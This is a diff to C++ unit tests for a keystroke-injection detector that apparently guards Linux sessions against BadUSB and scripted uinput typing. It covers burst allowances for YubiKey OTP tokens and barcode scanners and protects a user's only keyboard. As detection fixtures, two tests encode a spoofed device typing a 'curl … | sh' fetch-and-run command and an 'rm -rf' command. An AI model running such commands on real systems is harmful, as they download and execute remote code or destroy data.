@@ -152,7 +152,9 @@ TEST(PolicyDecider, UnequivocalReasons)
 {
 	EXPECT_TRUE(isUnequivocal("synthetic-device"));
 	EXPECT_TRUE(isUnequivocal("denied-device"));
-	EXPECT_TRUE(isUnequivocal("superhuman-rate"));
+	// Timing is a threshold on a statistic: tap-hold firmware or a radio can
+	// put a person across it (issue 11), so it never grabs the only keyboard.
+	EXPECT_FALSE(isUnequivocal("superhuman-rate"));
 	EXPECT_FALSE(isUnequivocal("too-regular"));
 	EXPECT_FALSE(isUnequivocal("new-keyboard-burst"));
 	EXPECT_FALSE(isUnequivocal("robotic-pointer"));
@@ -210,9 +212,9 @@ TEST(PolicyDecider, NoActiveSessionNoEvidenceButDetectorsRun)
 	Harness h(enforce());
 	h.haveSession = false;
 	h.add(1, Provenance::Hardware, true);
-	for (const auto &f : scriptFrames(6))
+	for (const auto &f : scriptFrames(12))
 		EXPECT_TRUE(h.frame(1, f).empty());
-	EXPECT_EQ(h.devices.at(1).keyPresses, 6u);
+	EXPECT_EQ(h.devices.at(1).keyPresses, 12u);
 	EXPECT_EQ(verdictName(h.session.evidence.state().verdict), "learning");
 	EXPECT_GT(h.lookups, 0u);
 }
@@ -233,26 +235,28 @@ TEST(PolicyDecider, SessionLookedUpOnlyOnEvidence)
 	EXPECT_EQ(h.lookups, 0u);
 }
 
-TEST(PolicyDecider, ScriptOnHardwareKeyboardConvictedAtItsFourthPress)
+TEST(PolicyDecider, ScriptOnHardwareKeyboardConvictedAtTheInstantDwellRun)
 {
 	Harness h(enforce());
 	h.add(1, Provenance::Hardware, true);
 	h.add(2, Provenance::Hardware, true);
 	std::vector<PolicyAction> first;
 	unsigned frames = 0;
-	for (const auto &f : scriptFrames(10)) {
+	const unsigned run = KeystrokeTimingConfig{}.instantDwellRun;
+	for (const auto &f : scriptFrames(run)) {
 		auto actions = h.frame(2, f);
 		frames++;
 		if (!actions.empty() && first.empty())
 			first = actions;
 	}
 	ASSERT_FALSE(first.empty());
-	// Decided on the 4th key's release: grab now (no key is down), then
-	// the verdict, then the lock.
+	// Decided on the release of the run's last key: grab now (no key is
+	// down; another keyboard is there), then the verdict, then the lock.
 	EXPECT_EQ(kinds(first), (std::vector<Kind>{Kind::Grab, Kind::VerdictChanged, Kind::LockSession}));
 	EXPECT_EQ(first[1].reason, "superhuman-rate");
-	EXPECT_EQ(first[1].atKeyPress, 4u);
-	EXPECT_NE(first[1].describe().find("at key press 4 of the device"), std::string::npos) << first[1].describe();
+	EXPECT_EQ(first[1].atKeyPress, run);
+	EXPECT_NE(first[1].describe().find("at key press " + std::to_string(run) + " of the device"), std::string::npos)
+		<< first[1].describe();
 	EXPECT_TRUE(h.devices.at(2).grabbed);
 	EXPECT_FALSE(h.devices.at(1).grabbed);
 }
@@ -269,7 +273,9 @@ TEST(PolicyDecider, OnlyKeyboardOfASeatIsNotGrabbedOnEquivocalEvidence)
 			visit(o);
 	};
 	std::string why;
-	EXPECT_TRUE(mayGrab(device, "superhuman-rate", each, why));
+	EXPECT_TRUE(mayGrab(device, "synthetic-device", each, why));
+	EXPECT_FALSE(mayGrab(device, "superhuman-rate", each, why));
+	EXPECT_EQ(why, "it is the only keyboard on seat0 and superhuman-rate is not unequivocal");
 	EXPECT_FALSE(mayGrab(device, "too-regular", each, why));
 	EXPECT_EQ(why, "it is the only keyboard on seat0 and too-regular is not unequivocal");
 
@@ -423,4 +429,255 @@ TEST(PolicyDecider, AbsolutePointerRangesFromAbsinfoMakeTeleportsCount)
 			EXPECT_EQ(verdictName(h.session.evidence.state().verdict), "injected");
 		}
 	}
+}
+namespace {
+
+// Keystrokes as frames, one report per frame: each key down `holdUs`, the
+// next pressed `gapUs` after this one's press.
+std::vector<std::vector<InputEvent>> typedFrames(const std::vector<uint16_t> &codes, uint64_t startUs, uint64_t gapUs,
+						 uint64_t holdUs)
+{
+	std::vector<std::pair<uint64_t, InputEvent>> events;
+	for (size_t i = 0; i < codes.size(); i++) {
+		const uint64_t t = startUs + i * gapUs;
+		events.push_back({t, InputEvent{t, EV_KEY, codes[i], 1}});
+		events.push_back({t + holdUs, InputEvent{t + holdUs, EV_KEY, codes[i], 0}});
+	}
+	std::stable_sort(events.begin(), events.end(), [](const auto &a, const auto &b) { return a.first < b.first; });
+	std::vector<std::vector<InputEvent>> frames;
+	for (const auto &[t, ev] : events)
+		frames.push_back({ev, InputEvent{t, EV_SYN, SYN_REPORT, 0}});
+	return frames;
+}
+
+// Modhex letters (c b d e f g h i j k l n r t u v) drawn at random, then Enter:
+// what a YubiKey OTP touch types.
+std::vector<uint16_t> otpKeys(unsigned letters, uint64_t seed)
+{
+	const uint16_t modhex[] = {KEY_C, KEY_B, KEY_D, KEY_E, KEY_F, KEY_G, KEY_H, KEY_I,
+				   KEY_J, KEY_K, KEY_L, KEY_N, KEY_R, KEY_T, KEY_U, KEY_V};
+	std::vector<uint16_t> out;
+	uint64_t s = seed;
+	for (unsigned i = 0; i < letters; i++) {
+		s = s * 6364136223846793005ULL + 1442695040888963407ULL;
+		uint16_t code = modhex[(s >> 33) % 16];
+		if (!out.empty() && code == out.back())
+			code = modhex[((s >> 33) + 1) % 16];
+		out.push_back(code);
+	}
+	out.push_back(KEY_ENTER);
+	return out;
+}
+
+const char *kYubiKeyRule = "[YubiKey OTP]\n"
+			   "MatchVendor=0x1050\n"
+			   "MatchProduct=0x0407\n"
+			   "MatchProvenance=hardware\n"
+			   "Allow=yes\n"
+			   "AllowBurstKeystrokes=49\n"
+			   "AllowBurstKeys=modhex enter\n";
+
+// Runs @p frames on device @p id; the verdict afterwards.
+std::string runFrames(Harness &h, DeviceId id, const std::vector<std::vector<InputEvent>> &frames)
+{
+	for (const auto &f : frames)
+		h.frame(id, f);
+	return std::string(verdictName(h.session.evidence.state().verdict));
+}
+
+PolicyDevice &addWithPolicy(Harness &h, DeviceId id, const AllowPolicy &policy, uint16_t vendor, uint16_t product,
+			    Provenance provenance = Provenance::Hardware)
+{
+	PolicyDevice device;
+	device.id = id;
+	device.info.sysname = "event" + std::to_string(id);
+	device.info.provenance = provenance;
+	device.info.caps.keyboard = true;
+	device.info.bustype = 3;
+	device.info.vendor = vendor;
+	device.info.product = product;
+	PolicyDevice &stored = h.devices.insert_or_assign(id, std::move(device)).first->second;
+	h.decider.deviceAdded(stored, policy, 0);
+	return stored;
+}
+
+} // namespace
+
+// Issue 11 item 2: `Allow=yes` alone changes nothing for a hardware OTP
+// token; the bounded allowance lets its bursts through, and nothing else.
+TEST(PolicyDecider, YubiKeyOtpBurstWithinAllowanceIsNotInjection)
+{
+	auto plain = AllowPolicy::parse("[YubiKey]\nMatchVendor=0x1050\nMatchProduct=0x0407\n"
+					"MatchProvenance=hardware\nAllow=yes\n",
+					"otp.rules");
+	auto bounded = AllowPolicy::parse(kYubiKeyRule, "otp.rules");
+	ASSERT_TRUE(plain && bounded);
+	for (unsigned letters : {32u, 44u, 48u}) {
+		// One report per 8 ms poll: down one poll, up one: 16 ms per character.
+		const auto frames = typedFrames(otpKeys(letters, letters), 1'000'000, 16'000, 8'000);
+		Harness without(PolicySettings{});
+		addWithPolicy(without, 1, *plain, 0x1050, 0x0407);
+		EXPECT_EQ(runFrames(without, 1, frames), "injected") << letters;
+
+		Harness with(PolicySettings{});
+		PolicyDevice &d = addWithPolicy(with, 1, *bounded, 0x1050, 0x0407);
+		ASSERT_TRUE(d.burstAllowance.has_value());
+		EXPECT_EQ(runFrames(with, 1, frames), "learning") << letters;
+		// A second touch later is a new burst.
+		EXPECT_EQ(runFrames(with, 1, typedFrames(otpKeys(letters, 7), 5'000'000, 16'000, 8'000)), "learning");
+	}
+}
+
+TEST(PolicyDecider, SpoofedYubiKeyTypingACommandIsInjection)
+{
+	auto bounded = AllowPolicy::parse(kYubiKeyRule, "otp.rules");
+	ASSERT_TRUE(bounded);
+	// A BadUSB with Yubico's ids typing `curl -s h.x/i|sh` and Enter at the
+	// same pace: the space is no modhex letter.
+	const std::vector<uint16_t> command = {KEY_C, KEY_U,         KEY_R,         KEY_L,   KEY_SPACE, KEY_MINUS,
+					       KEY_S, KEY_SPACE,     KEY_H,         KEY_DOT, KEY_X,     KEY_SLASH,
+					       KEY_I, KEY_LEFTSHIFT, KEY_BACKSLASH, KEY_S,   KEY_H,     KEY_ENTER};
+	Harness h(enforce());
+	h.add(2, Provenance::Hardware, true); // the person's keyboard
+	addWithPolicy(h, 1, *bounded, 0x1050, 0x0407);
+	EXPECT_EQ(runFrames(h, 1, typedFrames(command, 1'000'000, 16'000, 8'000)), "injected");
+	EXPECT_TRUE(h.devices.at(1).grabbed);
+
+	// Only modhex letters, but longer than the allowance: caught when the
+	// burst passes 49 presses.
+	Harness longer(PolicySettings{});
+	addWithPolicy(longer, 1, *bounded, 0x1050, 0x0407);
+	const auto keys = otpKeys(80, 3);
+	EXPECT_EQ(runFrames(longer, 1, typedFrames(keys, 1'000'000, 16'000, 8'000)), "injected");
+
+	// Another device with the allowance's ids but typing slower raises nothing either way.
+	Harness other(PolicySettings{});
+	addWithPolicy(other, 1, *bounded, 0x1050, 0x0408);
+	EXPECT_FALSE(other.devices.at(1).burstAllowance.has_value());
+}
+
+TEST(PolicyDecider, BarcodeScannerBurstWithinAllowance)
+{
+	auto scanner = AllowPolicy::parse("[Scanner]\nMatchVendor=0x05e0\nMatchProduct=0x1200\n"
+					  "MatchProvenance=hardware\nAllow=yes\n"
+					  "AllowBurstKeystrokes=14\nAllowBurstKeys=digits enter\n",
+					  "scan.rules");
+	ASSERT_TRUE(scanner);
+	const uint16_t digits[] = {KEY_0, KEY_1, KEY_2, KEY_3, KEY_4, KEY_5, KEY_6, KEY_7, KEY_8, KEY_9};
+	for (unsigned n : {8u, 13u}) {
+		for (uint64_t perChar : {3'000u, 8'000u}) {
+			std::vector<uint16_t> code;
+			for (unsigned i = 0; i < n; i++)
+				code.push_back(digits[(i * 7 + n) % 10]);
+			code.push_back(KEY_ENTER);
+			Harness h(PolicySettings{});
+			addWithPolicy(h, 1, *scanner, 0x05e0, 0x1200);
+			// Several scans a few seconds apart.
+			for (uint64_t scan = 0; scan < 5; scan++)
+				EXPECT_EQ(runFrames(h, 1,
+						    typedFrames(code, 1'000'000 + scan * 3'000'000, perChar, 1'000)),
+					  "learning")
+					<< n << " digits at " << perChar << " us";
+		}
+	}
+	// Letters from the scanner's ids are no scan.
+	Harness h(PolicySettings{});
+	addWithPolicy(h, 1, *scanner, 0x05e0, 0x1200);
+	EXPECT_EQ(runFrames(h, 1,
+			    typedFrames({KEY_R, KEY_M, KEY_SPACE, KEY_MINUS, KEY_R, KEY_F, KEY_SPACE, KEY_SLASH, KEY_1,
+					 KEY_2, KEY_3, KEY_4, KEY_ENTER},
+					1'000'000, 3'000, 1'000)),
+		  "injected");
+}
+
+// Remappers: an allowed remapper's uinput device carries the person's
+// typing, and timing is checked on it as on any keyboard.
+TEST(PolicyDecider, AllowedRemapperDeviceStillGetsTimingChecks)
+{
+	auto keyd = AllowPolicy::parse("[keyd]\nMatchCreatorExe=/usr/bin/keyd\nMatchCreatorUnit=keyd.service\n"
+				       "MatchCreatorUid=0\nMatchProvenance=uinput\nAllow=yes\n",
+				       "keyd.rules");
+	ASSERT_TRUE(keyd);
+	auto make = [&](Harness &h) -> PolicyDevice & {
+		PolicyDevice device;
+		device.id = 1;
+		device.info.sysname = "event1";
+		device.info.name = "keyd virtual keyboard";
+		device.info.provenance = Provenance::Uinput;
+		device.info.caps.keyboard = true;
+		CreatorProcess keydProcess;
+		keydProcess.exe = "/usr/bin/keyd";
+		keydProcess.unit = "keyd.service";
+		keydProcess.uid = 0;
+		device.info.creators.push_back(keydProcess);
+		PolicyDevice &stored = h.devices.insert_or_assign(1, std::move(device)).first->second;
+		h.decider.deviceAdded(stored, *keyd, 0);
+		return stored;
+	};
+	// The person's typing through keyd, with its tap artefacts (home-row
+	// taps re-emitted as one-poll taps): nothing.
+	{
+		Harness h(PolicySettings{});
+		PolicyDevice &d = make(h);
+		ASSERT_TRUE(d.allowed) << d.allowedWhy;
+		Jitter j;
+		uint64_t t = 1'000'000;
+		const uint16_t keys[] = {KEY_S, KEY_A, KEY_L, KEY_A, KEY_D, KEY_SPACE, KEY_W, KEY_O, KEY_R, KEY_K};
+		std::vector<std::vector<InputEvent>> frames;
+		for (unsigned i = 0; i < 200; i++) {
+			const uint16_t code = keys[i % 10];
+			const bool homeRow = code == KEY_S || code == KEY_A || code == KEY_L || code == KEY_D;
+			const uint64_t hold = homeRow ? 1'000 : j.next(60, 60) * 1000;
+			frames.push_back({InputEvent{t, EV_KEY, code, 1}, InputEvent{t, EV_SYN, SYN_REPORT, 0}});
+			frames.push_back(
+				{InputEvent{t + hold, EV_KEY, code, 0}, InputEvent{t + hold, EV_SYN, SYN_REPORT, 0}});
+			t += j.next(90, 130) * 1000 + hold;
+		}
+		EXPECT_EQ(runFrames(h, 1, frames), "learning");
+	}
+	// A script typed into keyd's device (`keyd do`, a broker): superhuman.
+	{
+		Harness h(PolicySettings{});
+		make(h);
+		EXPECT_EQ(runFrames(h, 1, scriptFrames(30)), "injected");
+		EXPECT_EQ(h.session.evidence.state().reasons.front(), "superhuman-rate");
+	}
+}
+
+// Issue 11 item 1: a person on a tap-hold board is never locked out of
+// their only keyboard. Even if evidence came, superhuman-rate no longer
+// grabs the only keyboard.
+TEST(PolicyDecider, OnlyKeyboardWithTapHoldFirmwareIsNotConvicted)
+{
+	Harness h(enforce());
+	h.add(1, Provenance::Hardware, true);
+	Jitter j;
+	uint64_t t = 1'000'000;
+	// "sad lass flask" style words: four home-row taps in a row, 1 ms holds.
+	const uint16_t keys[] = {KEY_S, KEY_A, KEY_D, KEY_F,     KEY_SPACE, KEY_L,
+				 KEY_A, KEY_S, KEY_S, KEY_SPACE, KEY_W,     KEY_E};
+	std::vector<std::vector<InputEvent>> frames;
+	for (unsigned i = 0; i < 600; i++) {
+		const uint16_t code = keys[i % 12];
+		const bool homeRow = code == KEY_S || code == KEY_A || code == KEY_D || code == KEY_F || code == KEY_L;
+		const uint64_t hold = homeRow ? 1'000 : j.next(60, 60) * 1000;
+		frames.push_back({InputEvent{t, EV_KEY, code, 1}, InputEvent{t, EV_SYN, SYN_REPORT, 0}});
+		frames.push_back({InputEvent{t + hold, EV_KEY, code, 0}, InputEvent{t + hold, EV_SYN, SYN_REPORT, 0}});
+		t += j.next(90, 130) * 1000;
+	}
+	for (const auto &f : frames)
+		for (const auto &a : h.frame(1, f))
+			ADD_FAILURE() << "action " << static_cast<int>(a.kind) << " " << a.reason << " "
+				      << a.describe();
+	EXPECT_FALSE(h.devices.at(1).grabbed);
+
+	// A script on the only keyboard: injected and locked, but not grabbed.
+	Harness only(enforce());
+	only.add(1, Provenance::Hardware, true);
+	std::vector<Kind> seen;
+	for (const auto &f : scriptFrames(30))
+		for (const auto &a : only.frame(1, f))
+			seen.push_back(a.kind);
+	EXPECT_EQ(seen, (std::vector<Kind>{Kind::GrabRefused, Kind::VerdictChanged, Kind::LockSession}));
+	EXPECT_FALSE(only.devices.at(1).grabbed);
 }
